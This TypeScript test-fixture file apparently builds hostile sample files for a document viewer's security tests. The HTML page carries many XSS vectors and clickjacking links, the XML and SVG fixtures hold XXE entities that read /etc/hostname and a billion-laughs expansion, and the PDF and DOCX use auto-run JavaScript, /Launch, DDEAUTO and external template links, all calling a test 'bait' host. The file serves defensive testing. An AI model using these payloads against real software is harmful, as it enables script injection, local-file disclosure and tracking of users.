/** Documents with active content, made here: each wants to run a script, to leave, or to reach the bait. */
import { Buffer } from 'node:buffer';
import { zipOf } from '../../parser/fixtures.ts';

/** What every script of these files does. */
export const scriptFor = (bait: string): string =>
  `window.__pwned=1;try{top.__pwned=1}catch(e){}fetch('${bait}/script');new Image().src='${bait}/script-image';alert(1)`;

/** Places of the links on the page below, in its own pixels: whoever clicks there follows one. */
export const LINK_ROWS = ['link', 'top', 'blank', 'download', 'script', 'form', 'map'] as const;
export const LINK_HEIGHT = 30;
/** What stands in the markup of each, so that a click is known to have met it. */
export const LINK_MARKS: Readonly<Record<(typeof LINK_ROWS)[number], string>> = {
  link: '/link"',
  top: 'target="_top"',
  blank: 'target="_blank"',
  download: 'download=""',
  script: 'href="javascript:',
  form: 'form="f"',
  map: '/map"',
};

/** A web page with everything that loads, leaves or runs by itself, and with links that lie over it. */
export const evilPage = (bait: string): string => {
  const row = (at: number): string =>
    `style="position:fixed;left:0;top:${at * LINK_HEIGHT}px;width:300px;height:${LINK_HEIGHT}px;display:block"`;
  return `<!doctype html><html manifest="${bait}/appcache"><head><title>evil</title>
<meta http-equiv="refresh" content="0;url=${bait}/refresh"><meta http-equiv="content-security-policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">
<meta http-equiv="set-cookie" content="x=1"><base href="${bait}/base/">
${[
  'preconnect',
  'dns-prefetch',
  'prefetch',
  'preload',
  'modulepreload',
  'stylesheet',
  'icon',
  'manifest',
  'prerender',
  'next',
]
  .map((rel) => `<link rel="${rel}" as="image" href="${bait}/${rel}">`)
  .join('\n')}
<style>@import url(${bait}/import); @font-face{font-family:x;src:url(${bait}/font)} body{background:url(${bait}/background);font-family:x}</style>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bait}/speculated"]}]}</script>
<script src="${bait}/script.js"></script><script>${scriptFor(bait)}</script></head>
<body background="${bait}/body" onload="${scriptFor(bait)}">Seen as a page.
<img src="${bait}/picture" srcset="${bait}/srcset 2x"><img src=x onerror="${scriptFor(bait)}"><input type=image src="${bait}/input">
<picture><source srcset="${bait}/source"><img></picture><video autoplay poster="${bait}/poster" src="${bait}/video"><track default src="${bait}/track"></video>
<audio autoplay src="${bait}/audio"></audio><iframe src="${bait}/frame"></iframe><iframe src="javascript:${scriptFor(bait)}"></iframe>
<iframe srcdoc="&lt;script&gt;${scriptFor(bait)}&lt;/script&gt;&lt;meta http-equiv=refresh content='0;url=${bait}/srcdoc'&gt;"></iframe>
<iframe src="file:///etc/hostname"></iframe><object data="${bait}/object"></object><embed src="${bait}/embed"><applet code="${bait}/applet"></applet>
<svg onload="${scriptFor(bait)}"><image href="${bait}/svg-image"/><use href="${bait}/use#x"/><script>${scriptFor(bait)}</script><animate onbegin="${scriptFor(bait)}" attributeName=x dur=1s></svg>
<math><maction actiontype="statusline" xlink:href="javascript:${scriptFor(bait)}">x</maction></math><details open ontoggle="${scriptFor(bait)}"></details>
<input autofocus onfocus="${scriptFor(bait)}"><marquee onstart="${scriptFor(bait)}"></marquee><form id=f action="${bait}/form" method=post></form>
<div><template shadowrootmode=open><script>${scriptFor(bait)}</script></template></div><portal src="${bait}/portal"></portal><webview src="${bait}/webview"></webview>
<a href="${bait}/link" ping="${bait}/ping" ${row(0)}>link</a><a href="${bait}/top" target=_top ${row(1)}>top</a>
<a href="${bait}/blank" target=_blank rel=opener ${row(2)}>blank</a><a href="${bait}/download" download ${row(3)}>download</a>
<a href="javascript:${scriptFor(bait)}" ${row(4)}>script</a><button form=f ${row(5)}>form</button>
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" usemap="#m" ${row(6)}><map name=m><area href="${bait}/map" shape=default></map></body></html>`;
};

export const evilDrawing = (bait: string): string => `<?xml version="1.0"?>
<?xml-stylesheet href="${bait}/stylesheet.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="40" onload="${scriptFor(bait)}">
<style>@import url(${bait}/drawing-import); rect{fill:url(${bait}/fill#x)}</style><script>${scriptFor(bait)}</script>
<script xlink:href="${bait}/drawing.js"/><rect width="60" height="40" fill="teal"/><image href="${bait}/drawing-image" width="9" height="9"/>
<image href="file:///etc/hostname" width="9" height="9"/><use href="${bait}/drawing-use#x"/><feImage href="${bait}/fe"/>
<foreignObject width="60" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${bait}/foreign"/></foreignObject>
<a xlink:href="javascript:${scriptFor(bait)}"><text y="20">x</text></a><animate attributeName="href" onbegin="${scriptFor(bait)}" dur="1s"/></svg>`;

/** Entities that name a file and a server, and that grow (S-13). */
const DOCTYPE = (bait: string): string =>
  `<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/hostname"><!ENTITY out SYSTEM "${bait}/entity">` +
  '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
export const entityDrawing = (bait: string): string =>
  `<?xml version="1.0"?>${DOCTYPE(bait)}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&file;&out;&c;</text></svg>`;
export const entityDocument = (bait: string): Buffer =>
  zipOf({
    '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    'word/document.xml': `<?xml version="1.0"?>${DOCTYPE(bait)}<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&file;&out;</w:t></w:r></w:p></w:body></w:document>`,
  });

/** Markup as its text and as its author, pictures and a template from outside, a macro. */
export const evilDocument = (bait: string): Buffer => {
  const markup = `&lt;script&gt;${scriptFor(bait)}&lt;/script&gt;&lt;img src=x onerror=window.__pwned=1&gt;`;
  const outside = (id: number, type: string): string =>
    `<Relationship Id="rId${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${bait}/${type}" TargetMode="External"/>`;
  return zipOf({
    '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    'word/document.xml': `<w:document xmlns:w="w" xmlns:r="r"><w:body><w:p><w:r><w:t>${markup}</w:t><w:instrText>INCLUDEPICTURE "${bait}/field"</w:instrText><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<Relationships>${outside(1, 'image')}${outside(2, 'attachedTemplate')}${outside(3, 'oleObject')}</Relationships>`,
    'word/vbaProject.bin': 'no macro',
    'docProps/core.xml': `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>${markup}</dc:creator><dc:title>${markup}</dc:title></cp:coreProperties>`,
  });
};

/** Everything that a reader may do when it opens a document, or when somebody clicks anywhere on the page (S-18). */
export const evilPdf = (bait: string): Buffer => {
  const js = `app.alert\\(1\\); this.submitForm\\('${bait}/submit'\\); app.launchURL\\('${bait}/launched'\\);`;
  const content = 'BT /F1 24 Tf 40 700 Td (<script>window.__pwned=1</script>) Tj ET';
  return Buffer.from(
    `%PDF-1.7
1 0 obj << /Type /Catalog /Pages 3 0 R /OpenAction << /S /JavaScript /JS (${js}) /Next [<< /S /URI /URI (${bait}/opened) >> << /S /Launch /F (/usr/bin/id) >> << /S /SubmitForm /F (${bait}/form) >>] >> /AA << /WC << /S /URI /URI (${bait}/closed) >> >> /AcroForm << /Fields [] /XFA (<xdp><script>xfa.host.messageBox(1)</script></xdp>) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js}) >>] >> >> >> endobj
2 0 obj << /Author (<img src=x onerror=window.__pwned=1>) /Title (<script>window.__pwned=1</script>) >> endobj
3 0 obj << /Type /Pages /Kids [4 0 R] /Count 1 >> endobj
4 0 obj << /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${bait}/clicked) >> >>] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\);window.__pwned=1;//)] >> >> /XObject << /X << /Type /XObject /Subtype /Image /F << /FS /URL /F (${bait}/stream) >> /Length 0 >> >> >> >> endobj
5 0 obj << /Length ${content.length} >> stream
${content}
endstream endobj
trailer << /Root 1 0 R /Info 2 0 R >>
%%EOF
`,
    'latin1',
  );
};

export const evilMail = (bait: string): string =>
  [
    'From: "<img src=x onerror=window.__pwned=1>" <a@example.invalid>',
    'To: b@example.invalid',
    'Subject: =?utf-8?B?PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+?=',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    evilPage(bait),
  ].join('\r\n');

/** Texts that other programs would follow. */
export const evilTexts = (bait: string): Readonly<Record<string, string>> => ({
  'terminal.txt': `\u001b[31mred\u001b]0;pwned\u0007 \u202eturned <script>${scriptFor(bait)}</script> \\u{202E}`,
  'playlist.m3u8': `#EXTM3U\n#EXTINF:1,\n${bait}/segment.ts\nfile:///etc/hostname\n`,
  'playlist.avi': `#EXTM3U\n#EXTINF:1,\n${bait}/avi.ts\nfile:///etc/hostname\n`,
  'shortcut.url': `[InternetShortcut]\nURL=${bait}/shortcut\nIconFile=${bait}/icon\n`,
  'styled.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${bait}/style.xsl"?><x><script xmlns="http://www.w3.org/1999/xhtml">${scriptFor(bait)}</script></x>`,
  'page.xhtml': `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${scriptFor(bait)}</script><img src="${bait}/xhtml"/></body></html>`,
  'page.mhtml': `MIME-Version: 1.0\nContent-Type: multipart/related; boundary="x"\n\n--x\nContent-Type: text/html\n\n<script>${scriptFor(bait)}</script>\n--x--\n`,
});
